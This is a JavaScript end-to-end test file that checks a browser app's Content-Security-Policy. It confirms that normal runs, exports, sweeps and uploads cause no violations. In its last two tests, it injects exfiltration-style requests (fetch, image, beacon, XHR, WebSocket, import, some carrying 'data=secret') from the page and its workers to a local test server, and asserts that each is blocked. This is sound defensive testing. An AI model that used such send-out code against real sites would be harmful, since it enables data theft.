// The privacy promise, enforced by the browser: both pages carry a
// Content-Security-Policy (a <meta> tag; `cargo xtask serve` also sends it
// as a header on the pages only, as a static host would not). Every feature
// works under it with no violation, and code run in the page or in one of
// its workers that tries to send something to another origin (127.0.0.1 on
// another port, a server of this test that counts what reaches it) is
// blocked, each attempt with its violation event.
//
// Run with `cargo xtask test` (sets BASE_URL, CHROMIUM_PATH, NEUROGEOM_CLI, E2E_OUT).

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { writeFileSync, mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { launch, newPage, url, foreignRequests, pageErrorsOf } from './browser.mjs';
import { watchViolations, violationsOf } from './policy.mjs';
import { recordingServer } from './static-server.mjs';

const SMALL = 'v=1&lab=lazy-rich&seed=3&steps=300&width=32';
const PINNED_NEXT = 'v=1&lab=lazy-rich&seed=4&steps=300&width=32';
const SPLIT = 'v=1&lab=credit&seed=3&task=teacher&rules=bp,fa,dfa&batch=4&lr=0.01&steps=400';
const POINTS = 'v=1&lab=modularity&seed=1&dist=points&points=0,0;1,0;0,1;0.5,0.5&steps=100';
const SWEEP = 'v=1&lab=lazy-rich&seed=1&width=16&n_train=50&steps=200&sweep=alpha:log:0.01:1000:5';
// Long enough that its workers are alive while the test looks into them.
const LONG_SPLIT = 'v=1&lab=credit&seed=1&task=teacher&rules=bp,fa,dfa&width=64&batch=64&lr=0.001&steps=200000';

let browser;
let foreign;
before(async () => {
  browser = await launch();
  foreign = await recordingServer();
});
after(async () => {
  await browser?.close();
  await foreign?.close();
});

// `cargo xtask serve` delivers the policy twice, as the pages' <meta> tag
// and as a header: the browser enforces each, and reports a blocked request
// once per policy (a blob: worker inherits both). A static host gives only
// the <meta> one.
const POLICIES = 2;

/** Each violation `expected` names, reported once per policy, and nothing else. */
function assertBlockedByEach(seen, expected, what) {
  assert.deepEqual(seen.sort(), expected.flatMap((v) => Array(POLICIES).fill(v)).sort(), what);
}

async function openWatched(path, options) {
  const page = await newPage(browser, options);
  await watchViolations(page);
  await page.goto(url(path));
  return page;
}

async function waitFor(page, selector, timeout = 90000) {
  try {
    await page.waitForSelector(selector, { timeout });
  } catch (e) {
    const now = await page.evaluate(() => ({ ...document.body.dataset, messages: document.getElementById('messages').textContent }));
    throw new Error(`waiting for ${selector}: ${JSON.stringify(now)}; page errors: ${pageErrorsOf(page).join('\n')}`);
  }
}

/** Wait for the single run of the current link: done and drawn. */
async function settled(page) {
  await waitFor(page, 'body[data-state="done"]');
  await page.waitForFunction(() => {
    const hash = document.getElementById('hash').textContent;
    return /^[0-9a-f]{16}$/.test(hash) && document.body.dataset.drawn === hash;
  });
}

/** Open another link in the same page (as a preset does) and wait for it. */
async function go(page, fragment) {
  const before = await page.locator('#share-link').inputValue();
  await page.evaluate((f) => (location.hash = f), fragment);
  await page.waitForFunction((b) => document.getElementById('share-link').value !== b, before);
}

/** Click every export, one at a time; return the downloaded files' names. */
async function exportAll(page) {
  const names = [];
  const onDownload = (d) => names.push(d.suggestedFilename());
  page.on('download', onDownload);
  for (const kind of ['png', 'svg', 'csv', 'json']) {
    await page.click('#export summary');
    await page.click(`[data-export="${kind}"]`);
    // Until a file of this kind has come and no other has for a while.
    let quiet = 0;
    let count = names.length;
    for (let i = 0; i < 150 && !(names.some((n) => n.endsWith(`.${kind}`)) && quiet >= 20); i++) {
      await page.waitForTimeout(100);
      quiet = names.length === count ? quiet + 1 : 0;
      count = names.length;
    }
    assert.ok(names.some((n) => n.endsWith(`.${kind}`)), `the ${kind} export gave a download: ${names.join(' ')}`);
  }
  page.off('download', onDownload);
  return names;
}

async function assertNoViolation(page, what) {
  const v = await violationsOf(page);
  assert.deepEqual(v.events, [], `no violation event during ${what}`);
  assert.deepEqual(v.log, [], `no violation in the browser's log (page or workers) during ${what}`);
  assert.deepEqual(pageErrorsOf(page), [], `no page error during ${what}`);
  assert.deepEqual(foreignRequests(page), []);
  assert.deepEqual(foreign.requests, []);
}

test('the pages carry the policy, as a <meta> tag and (from cargo xtask serve) a header', async () => {
  for (const page of ['', 'yourdata.html']) {
    const response = await fetch(url(page));
    const header = response.headers.get('content-security-policy');
    const html = await response.text();
    const meta = html.match(/<meta http-equiv="Content-Security-Policy" content="([^"]+)">/);
    assert.ok(meta, `${page || 'index.html'} has the <meta> policy`);
    assert.equal(header, meta[1], 'the header says the same');
    const policy = Object.fromEntries(meta[1].split(';').map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k, v]));
    assert.deepEqual(policy['default-src'], ["'none'"]);
    assert.deepEqual(policy['script-src'], ["'self'", "'wasm-unsafe-eval'"]);
    assert.deepEqual(policy['connect-src'], ["'self'"]);
    assert.deepEqual(policy['form-action'], ["'none'"]);
    assert.deepEqual(policy['base-uri'], ["'none'"]);
    assert.ok(!meta[1].includes('unsafe-inline') && !meta[1].includes("'unsafe-eval'"));
  }
  // Scripts and styles come from files only.
  const js = await fetch(url('www/app.js'));
  assert.equal(js.headers.get('content-security-policy'), null, 'no header on other files, as on a static host');
});

test('the lab page under its policy: a run, every export, pin, a split run, the point editor and a sweep, with no violation', async () => {
  const page = await openWatched(`#${SMALL}`, { acceptDownloads: true });
  await settled(page);
  const names = await exportAll(page);
  assert.ok(names.some((n) => n.endsWith('.png')) && names.some((n) => n.endsWith('.svg')), names.join(' '));
  assert.ok(names.some((n) => n.endsWith('.csv')) && names.some((n) => n.endsWith('.json')), names.join(' '));
  await assertNoViolation(page, 'a run and its exports');

  // Pin it, then run another beside it.
  await page.click('#pin');
  await go(page, PINNED_NEXT);
  await settled(page);
  await page.waitForFunction(() => document.body.dataset.pinned);
  await assertNoViolation(page, 'a pinned comparison');

  // A split run: three part workers, started by the run worker.
  await go(page, SPLIT);
  await waitFor(page, 'body[data-parts="3"]');
  await settled(page);
  await assertNoViolation(page, 'a split run');

  // The point editor: a click on the source scatter adds a point.
  await go(page, POINTS);
  await settled(page);
  await page.waitForFunction(() => document.getElementById('chart-sources')?.dataset.frame);
  const box = await page.locator('#chart-sources').boundingBox();
  const before = await page.locator('#share-link').inputValue();
  await page.mouse.click(box.x + box.width * 0.6, box.y + box.height * 0.4);
  await page.waitForFunction((b) => document.getElementById('share-link').value !== b, before);
  await settled(page);
  await assertNoViolation(page, 'the point editor');

  // A sweep in the worker pool, and its exports.
  await go(page, SWEEP);
  await waitFor(page, 'body[data-sweep="done"]', 120000);
  await page.waitForFunction(() => document.body.dataset.drawn === document.getElementById('hash').textContent);
  await exportAll(page);
  await assertNoViolation(page, 'a sweep and its exports');
  await page.context().close();
});

/** An .npy file (version 1.0) of little-endian f8 values. */
function npy(shape, values) {
  let header = `{'descr': '<f8', 'fortran_order': False, 'shape': (${shape.join(', ')}${shape.length === 1 ? ',' : ''}), }`;
  header += ' '.repeat((64 - ((10 + header.length + 1) % 64)) % 64) + '\n';
  const head = Buffer.alloc(10);
  head.write('\x93NUMPY', 0, 'latin1');
  head[6] = 1;
  head.writeUInt16LE(header.length, 8);
  const body = Buffer.alloc(values.length * 8);
  values.forEach((v, i) => body.writeDoubleLE(v, 8 * i));
  return Buffer.concat([head, Buffer.from(header, 'latin1'), body]);
}

test('Your data under its policy: an upload, the example and every export, with no violation', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'csp-'));
  const rows = [];
  const labels = [];
  for (let c = 0; c < 3; c++) {
    for (let i = 0; i < 20; i++) {
      for (let f = 0; f < 8; f++) rows.push(c * 2 + Math.sin(7 * i + 3 * f + c));
      labels.push(c);
    }
  }
  writeFileSync(join(dir, 'x.npy'), npy([60, 8], rows));
  writeFileSync(join(dir, 'y.npy'), npy([60], labels));

  const page = await openWatched('yourdata.html', { acceptDownloads: true });
  await waitFor(page, 'body[data-state="ready"][data-worker="ready"]', 30000);
  await page.setInputFiles('#labels-file', join(dir, 'y.npy'));
  await page.setInputFiles('#data-file', join(dir, 'x.npy'));
  await waitFor(page, 'body[data-state="done"]', 60000);
  assert.match(await page.textContent('#hash'), /^[0-9a-f]{16}$/);
  await page.waitForTimeout(300);
  const names = await exportAll(page);
  assert.ok(names.length >= 4, names.join(' '));

  // The example file: made in the page, analysed, and downloadable.
  await page.click('#use-example');
  await waitFor(page, 'body[data-state="done"]', 60000);
  const download = page.waitForEvent('download');
  await page.click('#download-example');
  const saved = join(dir, 'example.npz');
  await (await download).saveAs(saved);
  assert.equal(readFileSync(saved).subarray(0, 2).toString('latin1'), 'PK', 'the example is a zip (.npz)');
  await assertNoViolation(page, 'an upload, the example and the exports');
  await page.context().close();
});

test('code in the page cannot reach another origin: fetch, an image and a beacon are blocked, each with its violation', async () => {
  const page = await openWatched(`#${SMALL}`);
  await settled(page);
  const outcome = await page.evaluate(async (origin) => {
    const out = {};
    try {
      await fetch(`${origin}/fetch?data=secret`, { mode: 'no-cors' });
      out.fetch = 'sent';
    } catch (e) {
      out.fetch = `blocked: ${e.name}`;
    }
    out.image = await new Promise((resolve) => {
      const img = new Image();
      img.onload = () => resolve('loaded');
      img.onerror = () => resolve('blocked');
      img.src = `${origin}/image.png?data=secret`;
    });
    out.beacon = navigator.sendBeacon(`${origin}/beacon`, 'secret');
    await new Promise((r) => setTimeout(r, 500));
    return out;
  }, foreign.origin);
  assert.match(outcome.fetch, /^blocked/);
  assert.equal(outcome.image, 'blocked');
  const { events } = await violationsOf(page);
  const seen = events.map((e) => `${e.directive} ${e.blocked}`);
  assertBlockedByEach(seen, [
    `connect-src ${foreign.origin}/beacon`,
    `connect-src ${foreign.origin}/fetch?data=secret`,
    `img-src ${foreign.origin}/image.png?data=secret`,
  ], 'the page');
  assert.deepEqual(foreign.requests, [], 'nothing reached the other origin');
  await page.context().close();
});

/** In a worker: fetch, XMLHttpRequest, a WebSocket and a dynamic import to
 * another origin; returns what happened and the violation events seen there. */
function attemptInWorker(worker) {
  return worker.evaluate(async (origin) => {
    const events = [];
    self.addEventListener('securitypolicyviolation', (e) => events.push(`${e.effectiveDirective} ${e.blockedURI}`));
    const out = {};
    try {
      await fetch(`${origin}/worker-fetch`, { mode: 'no-cors' });
      out.fetch = 'sent';
    } catch (e) {
      out.fetch = 'blocked';
    }
    out.xhr = await new Promise((resolve) => {
      try {
        const x = new XMLHttpRequest();
        x.open('GET', `${origin}/worker-xhr`);
        x.onload = () => resolve('sent');
        x.onerror = () => resolve('blocked');
        x.send();
      } catch {
        resolve('blocked');
      }
    });
    out.socket = await new Promise((resolve) => {
      try {
        const ws = new WebSocket(`${origin.replace('http', 'ws')}/worker-socket`);
        ws.onopen = () => resolve('open');
        ws.onerror = () => resolve('blocked');
      } catch {
        resolve('blocked');
      }
    });
    try {
      await import(`${origin}/worker-import.js`);
      out.import = 'loaded';
    } catch {
      out.import = 'blocked';
    }
    await new Promise((r) => setTimeout(r, 500));
    return { out, events: events.sort() };
  }, foreign.origin);
}

test('code in a worker cannot reach another origin either: the run worker and a part worker are bound by the page policy', async () => {
  const page = await openWatched(`#${LONG_SPLIT}`);
  await waitFor(page, 'body[data-parts="3"]');
  // The run worker and its three part workers.
  for (let i = 0; i < 50 && page.workers().length < 4; i++) await page.waitForTimeout(100);
  const workers = page.workers();
  assert.ok(workers.length >= 4, `the run worker and three part workers: ${workers.length}`);
  for (const worker of [workers[0], workers[workers.length - 1]]) {
    const { out, events } = await attemptInWorker(worker);
    assert.deepEqual(out, { fetch: 'blocked', xhr: 'blocked', socket: 'blocked', import: 'blocked' }, worker.url());
    const expected = [
      `connect-src ${foreign.origin}/worker-fetch`,
      `connect-src ${foreign.origin}/worker-xhr`,
      `connect-src ${foreign.origin.replace('http', 'ws')}/worker-socket`,
      `script-src-elem ${foreign.origin}/worker-import.js`,
    ];
    assertBlockedByEach(events, expected, worker.url());
  }
  assert.deepEqual(foreign.requests, [], 'nothing reached the other origin');
  // The browser's log reports each worker's violations, nested ones too:
  // what the no-violation tests above rely on to see inside workers.
  const { log } = await violationsOf(page);
  assert.equal(log.filter((m) => m.startsWith('worker: ') && m.includes(`Connecting to '${foreign.origin}/worker-fetch' violates`)).length, 2 * POLICIES, log.join('\n'));
  await page.context().close();
});
